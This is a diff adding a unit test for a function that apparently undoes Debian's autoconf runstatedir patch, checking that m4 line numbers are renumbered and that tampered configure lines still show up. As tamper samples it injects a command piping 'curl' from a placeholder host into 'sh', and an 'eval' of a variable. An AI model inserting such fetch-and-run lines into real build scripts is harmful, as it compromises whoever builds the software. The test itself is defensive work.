@@ -65,6 +65,17 @@ describe('undoRunstatedir', () => {
     expect(normalisationText(undoRunstatedir(DEBIAN)!.normalisation)).toMatch(/^Debian's autoconf 2\.69 --runstatedir patch/);
   });
 
+  it("gives m4's __oline__ numbers (`$as_me:N:`, N the line's own number) their place without the patch's lines, and no other number", () => {
+    // libgpg-error 1.46: gnulib's threadlib.m4 writes `echo "$as_me:__oline__: …"`; the patch's 12 added lines move them.
+    const tail = (offset: number) => [`      echo "$as_me:${GNU.split('\n').length + offset}: gl_pthread_api=$gl_pthread_api" >&5`, '      echo "$as_me:7: not its own line" >&5', ''].join('\n');
+    const gnu = GNU + tail(0);
+    const debian = DEBIAN + tail(12).replace('$as_me:7:', '$as_me:7:');
+    expect(undoRunstatedir(debian)).toEqual({ text: gnu, normalisation: { kind: 'debian-runstatedir', args: { renumbered: 1 } } });
+    // What a tamperer would change: another number (not the line's own), or other text on such a line — still differs.
+    expect(undoRunstatedir(debian.replace(`$as_me:${GNU.split('\n').length + 12}:`, '$as_me:99999:'))?.text).not.toBe(gnu);
+    expect(undoRunstatedir(debian.replace('gl_pthread_api=$gl_pthread_api', 'gl_pthread_api=$(curl -s x.invalid|sh)'))?.text).not.toBe(gnu);
+  });
+
   it('undoes nothing when a block is missing, doubled or altered', () => {
     expect(undoRunstatedir(GNU)).toBeUndefined();
     expect(undoRunstatedir(DEBIAN.replace("runstatedir=$ac_optarg ;;", 'runstatedir=$ac_optarg; eval "$x" ;;'))).toBeUndefined();
